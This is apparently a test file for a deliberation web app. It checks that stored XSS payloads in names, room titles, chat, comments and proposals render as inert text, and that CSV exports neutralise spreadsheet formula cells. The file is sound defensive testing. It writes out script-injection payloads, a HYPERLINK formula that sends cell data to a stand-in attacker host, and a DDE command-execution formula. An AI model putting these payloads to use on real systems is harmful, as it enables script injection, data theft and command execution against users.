// Stored XSS in a real browser: a display name, organisation, room title and purpose, chat messages, a
// comment, a proposal title and the proposal's text all carry <script>, <img onerror> and javascript:
// payloads. They must render as inert text: no dialog opens, no injected element exists, no link points
// at javascript:. The CSV exports neutralise cells a spreadsheet would run as formulas.
import { Types } from "mongoose";
import { beforeAll, describe, expect, it } from "vitest";
import { registeredClient } from "../utils/api.ts";
import { decide, parseCsv } from "../utils/accountability.ts";
import { type BrowserUser, browserForSuite, saveScreenshot } from "../utils/browser.ts";
import { seedProposal } from "../utils/deliberation.ts";
import { connect, okData, request, socketsClosedAfterAll } from "../utils/socket.ts";

const browserSuite = browserForSuite({ motionSweepMs: 0 });
const { server } = browserSuite;
let viewer: BrowserUser;
const sockets = socketsClosedAfterAll();
const dialogs: string[] = [];

beforeAll(async () => {
  viewer = await browserSuite.openUser();
  viewer.page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
});

const payloads = {
  displayName: `<img src=x onerror=alert("name")>`,
  organisation: `<script>alert("org")</script>`,
  title: `<script>alert("title")</script><img src=x onerror=alert("title2")>`,
  purpose: `<img src=x onerror=alert("purpose")> [klik](javascript:alert("purpose-link")) javascript:alert(1)`,
  chat: [
    `<img src=x onerror=alert("chat")>`,
    `<a href="javascript:alert('chat-link')">klik</a>`,
    `javascript:alert("bare")`,
  ],
  comment: `<script>alert("comment")</script><svg onload=alert("svg")>`,
  proposalTitle: `<svg onload=alert("proposal-title")>`,
  proposalText: `<img src=x onerror=alert("doc")><script>alert("doc2")</script> javascript:alert("doc3")`,
};

/** What must not exist on a page that showed the payloads. */
async function injected(user: BrowserUser) {
  // A string runs in the page (the tests compile without the DOM library).
  return user.page.evaluate(`(() => {
    const elements = [...document.querySelectorAll("*")];
    return {
      imgX: document.querySelectorAll("img[src=x]").length,
      svgOnload: document.querySelectorAll("svg[onload]").length,
      scripts: [...document.scripts].filter((script) => (script.textContent ?? "").includes("alert(")).length,
      javascriptLinks: document.querySelectorAll('a[href^="javascript:" i]').length,
      handlers: elements.filter((element) =>
        [...element.attributes].some((attribute) => attribute.name.startsWith("on") && attribute.value.includes("alert")),
      ).length,
    };
  })()`);
}

const none = { imgX: 0, svgOnload: 0, scripts: 0, javascriptLinks: 0, handlers: 0 };

describe("stored script payloads", () => {
  it("render as inert text in the room, chat, proposal and comments; no dialog fires", async () => {
    const author = await registeredClient(server.url, "community", {
      displayName: payloads.displayName,
      organisation: payloads.organisation,
    });
    const room = await author.client.post("/api/rooms", {
      title: payloads.title,
      purpose: payloads.purpose,
      visibility: "open",
    });
    expect(room.status, JSON.stringify(room.body)).toBe(201);
    const roomId = room.body.id as string;
    const proposalId = await seedProposal(server, roomId, author.session.user.id, payloads.proposalText);
    await server.app.ctx.models.Proposal.updateOne(
      { _id: new Types.ObjectId(proposalId) },
      { $set: { title: payloads.proposalTitle } },
    );
    const socket = await connect(server, author.session.accessToken);
    sockets.push(socket);
    okData(await request(socket, "room:join", { roomId }));
    for (const body of payloads.chat) okData(await request(socket, "chat:send", { roomId, body }));
    okData(await request(socket, "comment:post", { proposalId, body: payloads.comment }));

    // The viewer logs in as the author (the name shows in the header, member list and messages).
    const { page } = viewer;
    await page.goto("/login");
    await page.getByTestId("login-email").fill(author.input.email);
    await page.getByTestId("login-password").fill(author.input.password);
    await page.getByTestId("login-submit").click();
    await page.waitForURL(/\/rooms/);
    await page.goto(`/rooms/${roomId}`);
    await expect.poll(() => page.getByTestId("room-title").first().textContent()).toContain(payloads.title);
    expect(await page.getByTestId("room-purpose").first().textContent()).toContain("javascript:alert(1)");
    await expect
      .poll(async () => (await page.getByTestId("message-body").allTextContents()).join("\n"), { timeout: 15_000 })
      .toContain(payloads.chat[0]);
    const chatText = (await page.getByTestId("message-body").allTextContents()).join("\n");
    for (const body of payloads.chat) expect(chatText).toContain(body);
    expect(await injected(viewer)).toEqual(none);
    await saveScreenshot(page, "xss-1-room");

    await page.goto(`/rooms/${roomId}/proposals/${proposalId}`);
    await expect
      .poll(() => page.getByTestId("proposal-view").textContent(), { timeout: 15_000 })
      .toContain(payloads.proposalText);
    await expect
      .poll(async () => (await page.getByTestId("message-body").allTextContents()).join("\n"), { timeout: 15_000 })
      .toContain(payloads.comment);
    expect(await injected(viewer)).toEqual(none);
    await saveScreenshot(page, "xss-2-proposal");

    expect(dialogs).toEqual([]);
    console.log(
      `xss: ${2 + payloads.chat.length + 6} stored payloads rendered on 2 pages — 0 dialogs, 0 injected elements, 0 javascript: links`,
    );
  });

  it("neutralises formula cells in the CSV exports", async () => {
    const { roomOfSectors } = await import("../utils/deliberation.ts");
    const room = await roomOfSectors(server, 1);
    const { seq } = await decide(server, room, { title: `=HYPERLINK("http://evil.example/?"&A1,"klik")` });
    const commitment = await room.coordinator.client.post(`/api/rooms/${room.roomId}/commitments`, {
      decisionSeq: seq,
      what: `=cmd|' /C calc'!A0`,
      ownerOrganisation: "+SUM(1,1)",
      dueDate: new Date(Date.now() + 86_400_000).toISOString(),
    });
    expect(commitment.status, JSON.stringify(commitment.body)).toBe(201);
    const pledge = await room.coordinator.client.post(`/api/rooms/${room.roomId}/pledges`, {
      decisionSeq: seq,
      kind: "funds",
      quantity: 5,
      unit: "@SUM(A1)",
      note: "-2+3",
    });
    expect(pledge.status, JSON.stringify(pledge.body)).toBe(201);
    let cells = 0;
    for (const file of ["decisions.csv", "commitments.csv", "pledges.csv"]) {
      const response = await room.coordinator.client.get(`/api/rooms/${room.roomId}/exports/${file}`);
      expect(response.status).toBe(200);
      const rows = parseCsv(String(response.body)).slice(1);
      const dangerous = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d/.test(cell));
      expect({ file, dangerous }).toEqual({ file, dangerous: [] });
      const quoted = rows.flat().filter((cell) => /^'[=+\-@]/.test(cell));
      expect(quoted.length, file).toBeGreaterThan(0);
      cells += quoted.length;
    }
    console.log(`xss: CSV exports — ${cells} formula cells neutralised, 0 left executable`);
  });
});
